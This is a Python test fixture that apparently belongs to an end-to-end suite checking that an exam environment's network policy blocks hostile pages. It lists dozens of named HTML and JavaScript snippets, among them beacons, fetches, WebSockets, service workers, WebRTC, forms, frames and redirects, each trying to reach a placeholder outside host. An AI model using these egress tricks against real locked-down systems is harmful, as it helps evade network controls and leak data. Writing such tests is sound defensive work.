"""What a page can try to reach somebody whom the exam's policy does not name: one attack each, by name.

``PLACE`` stands for the stranger's ``host:port``, ``EXAM`` for the exam's. An attack is a page, and what is clicked in
it; some need help from the exam's own site (a script for a worker, a redirect).
"""

import json
from collections.abc import Mapping
from dataclasses import dataclass, field

from tests.e2e.hostile.sites import Answer

SCRIPT = "text/javascript"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """``is_seen``: a refusal is reported; otherwise it is stopped where nobody hears of it (resolver, route, engine).

    ``arrives``: the stranger hears from it once every fence is down, which shows that the attack is one.
    """

    page: str
    headers: Mapping[str, str] = field(default_factory=dict)
    kind: str = "text/html; charset=utf-8"
    site: Mapping[str, Answer] = field(default_factory=dict)
    click: tuple[str, str] | None = None
    is_seen: bool = True
    arrives: bool = True


def _page(body: str, **more: object) -> Attack:
    return Attack(page=f"<!doctype html><title>attack</title><body>{body}", **more)  # type: ignore[arg-type]


def _script(code: str, **more: object) -> Attack:
    return _page(f"<script>{code}</script>", **more)


def _worker(kind: str, code: str, **more: object) -> Attack:
    return _script(f"new {kind}(URL.createObjectURL(new Blob([`{code}`],{{type:'{SCRIPT}'}})))", **more)


def _service_worker(code: str, **more: object) -> Attack:
    start = (
        "const one=Math.random();"
        "navigator.serviceWorker.register(`/worker.js?${one}`,{scope:`/${one}`}).then(async found=>{"
        "const made=found.installing||found.active;"
        "while(made.state!=='activated')await new Promise(done=>setTimeout(done,20));made.postMessage('go')})"
    )
    worker = f"addEventListener('install',()=>skipWaiting());addEventListener('message',e=>{{{code}}})"
    return _script(start, site={"/worker.js": Answer(kind=SCRIPT, body=worker.encode())}, **more)


def _link(modifier: str, attributes: str = "", **more: object) -> Attack:
    link = f"<a id=target {attributes} href='http://PLACE/' style='display:block;height:90px'>help</a>"
    return _page(link, click=("target", modifier), **more)


def _redirect(path: str, status: int = 302) -> dict[str, Answer]:
    return {path: Answer(status=status, headers={"Location": "http://PLACE/"})}


_RTC = (
    "const p=new RTCPeerConnection({iceServers:[{urls:['stun:PLACE','turn:PLACE?transport=udp',"
    "'turn:PLACE?transport=tcp'],username:'u',credential:'c'}]});"
    "p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))"
)
_XSLT = (
    "<?xml version='1.0'?><xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
    "<xsl:template match='/'><p><xsl:copy-of select=\"document('http://PLACE/x')\"/></p></xsl:template></xsl:stylesheet>"
)
_XML = "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{}'?><a/>"
_LONG_GONE = "<script>addEventListener('pagehide',()=>fetch('http://PLACE/',{keepalive:true,mode:'no-cors'}));"

RESOURCES: Mapping[str, Attack] = {
    "fetch": _script("fetch('http://PLACE/',{mode:'no-cors'})"),
    "xml http request": _script("const x=new XMLHttpRequest();x.open('GET','http://PLACE/');x.send()"),
    "beacon": _script("navigator.sendBeacon('http://PLACE/','answers')"),
    "event source": _script("new EventSource('http://PLACE/')"),
    "fetch that outlives its page": _page(f"{_LONG_GONE}setTimeout(()=>location.href='/',50)</script>"),
    "script": _page("<script src='http://PLACE/'></script>"),
    "module script": _page("<script type=module src='http://PLACE/'></script>"),
    "script's import": _script("import('http://PLACE/')"),
    "picture": _page("<img src='http://PLACE/'>"),
    "picture's srcset": _page("<img srcset='http://PLACE/ 1x'>"),
    "picture of an input": _page("<input type=image src='http://PLACE/'>"),
    "picture in a drawing": _page("<svg><image href='http://PLACE/' width=9 height=9 /></svg>"),
    "shape from elsewhere": _page("<svg><use href='http://PLACE/#a'/></svg>", is_seen=False, arrives=False),
    "filter from elsewhere": _page(
        "<svg width=9 height=9><filter id=f><feImage href='http://PLACE/'/></filter>"
        "<rect width=9 height=9 filter=url(#f) /></svg>"
    ),
    "background": _page("<table background='http://PLACE/'><tr><td>x</table>"),
    "style sheet": _page("<link rel=stylesheet href='http://PLACE/'>"),
    "style's import": _page("<style>@import 'http://PLACE/';</style>"),
    "style's url": _page("<p style=\"background:url('http://PLACE/')\">x</p>"),
    "style's image-set": _page("<p style=\"background:image-set('http://PLACE/' 1x)\">x</p>"),
    "font": _page("<style>@font-face{font-family:f;src:url('http://PLACE/')}p{font-family:f}</style><p>x</p>"),
    "video": _page("<video src='http://PLACE/' preload=auto></video>"),
    "audio": _page("<audio src='http://PLACE/' preload=auto></audio>"),
    "video's poster": _page("<video poster='http://PLACE/'></video>"),
    "video's subtitles": _page(
        "<video crossorigin><track default kind=subtitles src='http://PLACE/'></video>"
        "<script>document.querySelector('track').track.mode='showing'</script>"
    ),
    "object": _page("<object data='http://PLACE/'></object>"),
    "embed": _page("<embed src='http://PLACE/'>"),
    "embedded PDF": _page("<embed src='http://PLACE/' type=application/pdf>"),
    "icon": _page("<link rel=icon href='http://PLACE/'>", is_seen=False, arrives=False),
    "manifest": _page("<link rel=manifest href='http://PLACE/'>", is_seen=False, arrives=False),
    "preload": _page("<link rel=preload as=image href='http://PLACE/'>"),
    "module preload": _page("<link rel=modulepreload href='http://PLACE/'>"),
    "prefetch": _page("<link rel=prefetch href='http://PLACE/'>"),
    "speculation rules": _page(
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://PLACE/"]}]}</script>',
        is_seen=False,
    ),
    "preconnect": _page("<link rel=preconnect href='http://PLACE/'>", is_seen=False),
    "preload by header": _page("x", headers={"Link": "<http://PLACE/>; rel=preload; as=image"}),
    "preconnect by header": _page("x", headers={"Link": "<http://PLACE/>; rel=preconnect"}, is_seen=False),
    "base": _page("<base href='http://PLACE/'><img src=a.png>"),
    "frame's document in an attribute": _page("<iframe srcdoc=\"<img src='http://PLACE/'>\"></iframe>"),
    "frame written by a script": _script(
        "const f=document.createElement('iframe');document.body.append(f);"
        "f.contentDocument.write(\"<img src='http://PLACE/'>\");f.contentDocument.close()"
    ),
    "frame's blank window": _script(
        "const f=document.createElement('iframe');document.body.append(f);"
        "f.contentWindow.fetch('http://PLACE/',{mode:'no-cors'})"
    ),
    "redirected picture": _page("<img src=/away>", site=_redirect("/away")),
    "redirected fetch": _script("fetch('/away',{mode:'no-cors'})", site=_redirect("/away")),
    "redirected script": _page("<script src=/away></script>", site=_redirect("/away")),
    "report of a broken content policy": _page(
        "<img src='http://127.0.0.9/'>",
        headers={"Content-Security-Policy": "img-src 'self'; report-uri http://PLACE/"},
    ),
    "reporting endpoint": _page(
        "<img src='http://127.0.0.9/'>",
        headers={
            "Reporting-Endpoints": 'a="https://PLACE/"',
            "Report-To": json.dumps({"group": "a", "max_age": 9, "endpoints": [{"url": "https://PLACE/"}]}),
            "NEL": json.dumps({"report_to": "a", "max_age": 9, "success_fraction": 1}),
            "Content-Security-Policy": "img-src 'self'; report-to a",
        },
        is_seen=False,
        arrives=False,
    ),
    "audit of a link": _page(
        "<a id=target ping='http://PLACE/' href='#here' style='display:block;height:90px'>here</a>",
        click=("target", ""),
        is_seen=False,
        arrives=False,
    ),
    "style sheet of an XML page": Attack(
        page=_XML.format("http://PLACE/"), kind="text/xml", arrives=False, is_seen=False
    ),
    "XSLT document()": Attack(
        page=_XML.format("/sheet.xsl"),
        kind="text/xml",
        site={"/sheet.xsl": Answer(kind="text/xml", body=_XSLT.encode())},
        arrives=False,
        is_seen=False,
    ),
    "audio worklet": _script("new AudioContext().audioWorklet.addModule('http://PLACE/')"),
}

WORKERS: Mapping[str, Attack] = {
    "web socket": _script("new WebSocket('ws://PLACE/')"),
    "web socket stream": _script("new WebSocketStream('ws://PLACE/').opened.catch(()=>0)"),
    "worker": _script("try{new Worker('http://PLACE/')}catch{}", is_seen=False, arrives=False),
    "fetch from a worker": _worker("Worker", "fetch('http://PLACE/',{mode:'no-cors'})"),
    "importScripts from a worker": _worker("Worker", "importScripts('http://PLACE/')"),
    "web socket from a worker": _worker("Worker", "new WebSocket('ws://PLACE/')"),
    "fetch from a shared worker": _worker("SharedWorker", "fetch('http://PLACE/',{mode:'no-cors'})", is_seen=False),
    "web socket from a shared worker": _worker("SharedWorker", "new WebSocket('ws://PLACE/')", is_seen=False),
    "service worker": _script(
        "navigator.serviceWorker.register('http://PLACE/w.js').catch(()=>0)", is_seen=False, arrives=False
    ),
    "fetch from a service worker": _service_worker("fetch('http://PLACE/',{mode:'no-cors'})"),
    "importScripts from a service worker": _service_worker(
        "importScripts('http://PLACE/')", is_seen=False, arrives=False
    ),
    "web socket from a service worker": _service_worker("new WebSocket('ws://PLACE/')", is_seen=False),
    "web transport": _script("new WebTransport('https://PLACE/').ready.catch(()=>0)", is_seen=False),
    "call to a stranger (WebRTC)": _script(_RTC, is_seen=False),
}

NAVIGATIONS: Mapping[str, Attack] = {
    "address": _script("location.href='http://PLACE/'"),
    "address replaced": _script("location.replace('http://PLACE/')"),
    "navigation object": _script("navigation.navigate('http://PLACE/')"),
    "refresh": _page("<meta http-equiv=refresh content='0;url=http://PLACE/'>"),
    "refresh by header": _page("x", headers={"Refresh": "0;url=http://PLACE/"}),
    "redirect": _script("location.href='/away'", site=_redirect("/away")),
    "redirect with its form": _page(
        "<form id=f method=post action=/away><input name=a value=1></form><script>f.submit()</script>",
        site=_redirect("/away", 307),
    ),
    "form": _page("<form id=f action='http://PLACE/'><input name=a value=1></form><script>f.submit()</script>"),
    "posted form": _page(
        "<form id=f method=post action='http://PLACE/'><input name=a></form><script>f.submit()</script>"
    ),
    "form into a frame": _page(
        "<iframe name=n></iframe><form id=f target=n action='http://PLACE/'></form><script>f.submit()</script>"
    ),
    "form's other button": _page(
        "<form><button id=target formaction='http://PLACE/' style='height:90px;width:200px'>go</button></form>",
        click=("target", ""),
    ),
    "frame": _page("<iframe src='http://PLACE/'></iframe>"),
    "frame's address set later": _page("<iframe id=f></iframe><script>f.src='http://PLACE/'</script>"),
    "frame set": Attack(page="<frameset><frame src='http://PLACE/'></frameset>"),
    "frame without credentials": _page("<iframe credentialless src='http://PLACE/'></iframe>"),
    "redirected frame": _page("<iframe src=/away></iframe>", site=_redirect("/away")),
    "window into a frame": _page("<iframe name=n></iframe><script>window.open('http://PLACE/','n')</script>"),
    "link": _link(""),
    "link for a new window": _link("", "target=_blank"),
    "link held with ctrl": _link("ctrl"),
    "link held with shift": _link("shift"),
    "link under the middle button": _link("middle"),
    "window": _script("window.open('http://PLACE/')", is_seen=False),
    "window filled later": _script("const w=window.open('about:blank');if(w)w.location='http://PLACE/'", is_seen=False),
    "window at a click": _page(
        "<button id=target style='height:90px;width:200px' onclick=\"window.open('http://PLACE/')\">go</button>",
        click=("target", ""),
        is_seen=False,
    ),
    "download": _page(
        "<a id=target download href='http://PLACE/' style='display:block;height:90px'>file</a>", click=("target", "")
    ),
}
